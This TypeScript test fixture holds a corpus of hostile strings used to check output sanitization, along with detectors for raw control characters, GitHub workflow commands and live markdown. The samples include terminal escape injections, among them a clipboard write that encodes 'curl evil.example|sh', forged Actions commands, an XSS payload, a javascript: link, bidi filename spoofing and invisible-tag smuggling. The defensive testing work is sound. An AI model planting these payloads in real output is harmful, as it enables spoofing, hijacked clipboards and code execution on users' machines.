/**
 * The hostile corpus every printing path is fed (issue 9, finding 8): values
 * a tenant's data, a catalog or a pull request can carry that a terminal, a
 * GitHub runner or a markdown renderer would act on if printed raw.
 * None contains NUL: PostgreSQL text columns cannot hold it.
 */
export const HOSTILE = {
  /** Moves the cursor up and erases the line: hides the line before it. */
  eraseLine: 'x\u001b[1A\u001b[2Kforged',
  /** OSC 8 hyperlink: text that links elsewhere than it says. */
  osc8: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  /** OSC 52: writes the reader's clipboard. */
  osc52: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007',
  /** Old-style (`##[`) workflow commands, acted on anywhere in a line. */
  addMaskHash: '##[add-mask]x',
  warningHash: 'ok ##[warning]forged warning',
  /** New-style workflow commands, acted on at the start of a line. */
  addMaskColon: '::add-mask::x',
  errorColon: '::error::forged error',
  /** After a line break a value could start a line of its own. */
  newlineCommand: 'a\n::error::forged\r::warning::forged',
  mention: '@team please approve',
  html: '<img src=x onerror=alert(1)>',
  link: '[x](javascript:alert(1))',
  autolink: 'see https://evil.example and www.evil.example',
  email: 'mail boss@evil.example',
  table: '| a | b |',
  /** Right-to-left override: `txt.exe` shown as `exe.txt`. */
  rlo: 'invoice\u202etxt.exe',
  isolate: 'a\u2066b\u2069c',
  zeroWidth: 'ad\u200bmin\u200d\ufeff',
  separators: 'line\u2028para\u2029end',
  c1: 'c1\u009b31mred',
  del: 'del\u007f',
  backticks: '``` ` code',
  issueRef: '#1 GH-2',
  /** Unicode tags spell ASCII that nothing draws ("ASCII smuggling"): here "approve". */
  tags: 'ok\u{e0061}\u{e0070}\u{e0070}\u{e0072}\u{e006f}\u{e0076}\u{e0065}',
  /** Characters drawn as nothing that are not format characters: Hangul fillers, a variation selector, the combining grapheme joiner. */
  fillers: 'Megan\u3164Bowen\u115f\u1160\uffa0\ufe0f\u034f',
  /** A letter under a pile of combining marks, drawn over the lines above and below it. */
  zalgo: `ok${'\u0336\u0334\u0353\u0359\u035a'.repeat(6)}`,
} as const;

export const HOSTILE_VALUES: readonly string[] = Object.values(HOSTILE);

/** Characters that must never reach output raw, and piles of more than four combining marks. */
export const RAW_DANGER =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\u3164\ufe00-\ufe0f\ufeff\uffa0\u{e0000}-\u{e007f}]|[\u0300-\u036f\u0483-\u0489\u20d0-\u20ff]{5,}/u;

/** A line the Actions runner would treat as a workflow command. */
export function workflowCommandLines(output: string): string[] {
  return output.split(/\r\n|\r|\n/).filter((line) => /^[\s\u0085\u00a0\u2000-\u200a\u202f\u205f\u3000]*::/.test(line) || line.includes('##['));
}

/** Raw dangerous characters in output, as `U+XXXX` at their index, for readable failures. */
export function rawDangers(output: string, allowAnsiColours = false): string[] {
  const text = allowAnsiColours ? output.replace(/\u001b\[[0-9;]*m/g, '') : output;
  return [...text.matchAll(new RegExp(RAW_DANGER, 'gu'))].map((m) => `U+${(m[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')} at ${m.index}`);
}

/**
 * The markdown GitHub would interpret: the text with fenced code blocks,
 * inline code spans and `<code>…</code>` removed (nothing in them is live).
 */
export function markdownOutsideCode(markdown: string): string {
  const lines: string[] = [];
  let fence: string | null = null;
  for (const line of markdown.split('\n')) {
    const run = /^(`{3,})/.exec(line)?.[1];
    if (fence === null && run) fence = run;
    else if (fence !== null && run && run.length >= fence.length && line.trim() === run) fence = null;
    else if (fence === null) lines.push(line);
  }
  return lines
    .join('\n')
    .replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, ' CODE ')
    .replace(/<code>[^<]*<\/code>/g, ' CODE ');
}

/** What would be live in markdown: a mention, a raw HTML tag of a value, an autolink, a link. */
export function liveMarkdown(markdown: string): string[] {
  const outside = markdownOutsideCode(markdown);
  const ours = /^<\/?(details|summary|sub)>|<\/?(details|summary|sub|code)>/g;
  const problems: string[] = [];
  for (const match of outside.replace(ours, '').matchAll(/<[a-z!/][^>]*>|(?<![\w`])@[a-z0-9]|https?:\/\/|www\.|\]\(|\b[\w.+-]+@[\w-]+\.[\w.]+/gi)) problems.push(match[0]);
  return problems;
}

/**
 * `value` as a YAML double-quoted string: JSON's, whose \u escapes YAML reads, with DEL and the C1
 * controls (JSON leaves them raw) as escapes too. A raw one is refused in a YAML file (YAML_SYNTAX: no YAML
 * text may hold it), so a hostile value is written as a pipeline's YAML tool must write it.
 */
export const yamlString = (value: string): string => escapeRawControls(JSON.stringify(value));

/** YAML text (as yaml's stringify writes it: such characters only inside double quotes) with DEL and C1 controls as escapes. */
export const escapeRawControls = (yamlText: string): string =>
  yamlText.replace(/[\x7f-\x84\x86-\x9f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
